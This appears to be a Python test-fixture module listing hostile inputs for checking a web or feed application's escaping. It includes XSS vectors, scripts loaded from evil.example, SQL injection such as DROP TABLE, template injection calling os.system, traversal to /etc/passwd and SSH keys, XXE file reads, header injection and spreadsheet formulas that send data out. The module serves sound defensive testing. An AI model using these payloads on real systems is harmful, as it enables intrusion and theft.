"""Hostile texts: what somebody might write into a title, a note or an address to make a page, feed or file do something else."""

EVIL = "evil.example"
"""The host of every link that a text tries to become; no address of ours may lead there."""

_EVENTS = (
    "onerror",
    "onload",
    "onfocus",
    "onmouseover",
    "onanimationstart",
    "ontoggle",
    "onpointerenter",
    "onbegin",
    "onclick",
    "onwheel",
    "onscroll",
    "oncopy",
    "onkeydown",
    "onunload",
    "onhashchange",
    "onbeforeprint",
)
_TAGS = (
    "<script>alert({n})</script>",
    "<SCRIPT SRC=//evil.example/{n}.js></SCRIPT>",
    "<scr<script>ipt>alert({n})</scr</script>ipt>",
    "</title><script>alert({n})</script>",
    "</textarea><script>alert({n})</script>",
    "</style><script>alert({n})</script>",
    "--><script>alert({n})</script><!--",
    "]]><script>alert({n})</script><![CDATA[",
    "<iframe src=javascript:alert({n})></iframe>",
    "<iframe srcdoc='<script>alert({n})</script>'></iframe>",
    "<object data=data:text/html,<script>alert({n})</script>></object>",
    "<embed src=//evil.example/{n}.swf>",
    "<base href=//evil.example/{n}/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<form action=//evil.example/{n}><button>ok</button></form>",
    "<math><mi xlink:href=javascript:alert({n})>x</mi></math>",
    "<svg><a xlink:href=javascript:alert({n})><text>x</text></a></svg>",
    "<svg><script>alert({n})</script></svg>",
    "<svg><animate attributeName=href values=javascript:alert({n}) /></svg>",
    "<svg><foreignObject><zq>{n}</zq></foreignObject></svg>",
    "<style>@import '//evil.example/{n}.css';</style>",
    "<zq onzq=alert({n})>",
    "<a href='javascript:alert({n})'>x</a>",
    "<a href='//evil.example/{n}'>x</a>",
    "<template><script>alert({n})</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert({n})>'>",
    "<plaintext>{n}",
    "<!--{n}",
    "<?xml-stylesheet href='//evil.example/{n}.xsl'?>",
    "<marquee onstart=alert({n})>x</marquee>",
    "\u2028<script>alert({n})</script>\u2029",
    "\uff1cscript\uff1ealert({n})\uff1c/script\uff1e",
    "&lt;script&gt;alert({n})&lt;/script&gt;",
    "&#60;script&#62;alert({n})&#60;/script&#62;",
    "\\u003cscript\\u003ealert({n})\\u003c/script\\u003e",
)
_IN_ATTRIBUTES = ('" {e}=alert({n}) x="', "' {e}=alert({n}) x='", "<img src=x {e}=alert({n})>", "x` `{e}=alert({n})")
_LINKS = (
    "[read](https://evil.example/{n})",
    "![seen](https://evil.example/{n}.png)",
    "https://evil.example/{n}",
    "www.evil.example/{n}",
    "<https://evil.example/{n}>",
    "javascript:alert({n})",
    "JaVaScRiPt:alert({n})",
    "java\tscript:alert({n})",
    "\x01javascript:alert({n})",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=={n}",
    "vbscript:msgbox({n})",
    "[x](javascript:alert({n}))",
    "tel:+7{n}",
    ":red[**{n}**] $\\href{{https://evil.example}}{{x}}$",
)
_TEMPLATES = (
    "{{{{{n}*{n}}}}}",
    "${{{n}*{n}}}",
    "#{{{n}*{n}}}",
    "<%= {n}*{n} %>",
    "{{% import os %}}{{{{os.system('id {n}')}}}}",
    "{{{{config.items()}}}}{n}",
    "{{{{''.__class__.__mro__[1].__subclasses__()}}}}{n}",
    "%(password)s{n}",
    "{{password}}{n}",
    "{{0.__class__}}{n}",
    "%s%s%n{n}",
    "{{n!r:>{n}}}",
)
_QUERIES = (
    "'; DROP TABLE issues; --{n}",
    "' OR '1'='1' /*{n}*/",
    '" OR ""="{n}',
    "1; ATTACH 'evil{n}.db'",
    "%' UNION SELECT {n},2,3 --",
    "') OR 1=1 LIMIT {n} --",
    "COPY issues TO '/tmp/evil{n}'",
    "\\'; SELECT {n}; --",
)
_PATHS = (
    "../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%c0%af..%c0%afetc/passwd",
    "....//....//etc/passwd",
    "/etc/passwd\x00.png",
    "file:///etc/passwd",
    "\\\\evil.example\\share",
    "CON",
    "~root/.ssh/id_rsa",
    "snapshot/../../CURRENT",
    "/dev/zero",
)
_LINES = (
    "x\r\nX-Injected: {n}",
    "x\nSet-Cookie: injected={n}",
    "x\r\n\r\n<script>alert({n})</script>",
    "x%0d%0aX-Injected: {n}",
    "x\u560a\u560dX-Injected: {n}",
    "x\rBEGIN:VALARM\rACTION:AUDIO\rEND:VALARM{n}",
    "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:injected {n}",
    "x\nATTENDEE:mailto:a@evil.example{n}",
    'x;ALTREP="https://evil.example/{n}":y',
    "x\\nX-INJECTED:{n}\\,\\;",
    "x\x0bX-Injected:{n}\x0c",
    "x\x85X-Injected:{n}",
)
_SIGNS = (
    "\u202egnp.exe{n}",
    "\u202dleft\u202c{n}",
    "\u2066isolated\u2069{n}",
    "\u200fright\u200e{n}",
    "a\u200bb\u200cc\u200dd\u2060e{n}",
    "\ufeffmarked{n}",
    "Z\u0310\u0345\u0352\u034e\u0301a\u0326\u0318\u0331l\u0320\u032d\u0359g\u0340\u034a\u0350o\u0347\u0354{n}",
    "e" + "\u0301" * 400 + "{n}",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466{n}",
    "\u0430pple.com{n}",
    "\ufdfa" * 40 + "{n}",
    "\ufffe\uffff{n}",
    "\U000e0001\U000e0041{n}",
    "   {n}   ",
)
_CELLS = (
    "=1+{n}",
    '=HYPERLINK("https://evil.example/{n}","x")',
    "=cmd|' /C calc'!A{n}",
    "+1+{n}",
    "-1+{n}",
    "@SUM({n})",
    "\t=1+{n}",
    "\r=1+{n}",
    '"=1+{n}',
    '=IMPORTXML(CONCAT("https://evil.example/",A{n}),"//a")',
    "\uff1d1+{n}",
    ";=1+{n}",
)
_ENTITIES = (
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;{n}</x>',
    '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]>&b;{n}',
    "&evil{n};",
    "&#x0;{n}",
    "&#xD800;{n}",
    "<![CDATA[{n}]]>",
    "<xi:include href='file:///etc/passwd'/>{n}",
    "& < > \" ' {n}",
)
_CONTROLS = (
    "zero\x00byte{n}",
    "\x1b[31mred{n}",
    "bell\x07{n}",
    "\x08\x08\x08{n}",
    "\x7f{n}",
    "\x00",
    "del\x9b31m{n}",
    "a\x1ab{n}",
)
_HUGE = ("A" * 20_000, "<" * 2_000, "&" * 2_000, "\u04d9" * 5_000, "a " * 4_000, "((((" * 1_000)

PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(
        [
            *(text.format(n=n) for n, text in enumerate(_TAGS, 100)),
            *(text.format(e=e, n=n) for n, e in enumerate(_EVENTS, 200) for text in _IN_ATTRIBUTES),
            *(
                text.format(n=n)
                for kind in (_LINKS, _TEMPLATES, _QUERIES, _LINES, _SIGNS, _CELLS, _ENTITIES, _CONTROLS)
                for n, text in enumerate(kind, 300)
            ),
            *_PATHS,
            *_HUGE,
        ]
    )
)

ADDRESSES: tuple[str, ...] = (
    "javascript:alert(1)",
    " javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "blob:https://evil.example/x",
    'https://good.example/"><script>alert(1)</script>',
    "https://good.example/' onmouseover='alert(1)",
    "https://good.example/\r\nX-Injected: 1",
    "https://good.example/\u202egnp.exe",
    "http://",
    "https://[",
    "mailto:a@evil.example",
    "",
    "not an address",
)
"""What somebody might write where an address belongs; only those of `good.example` may become links."""
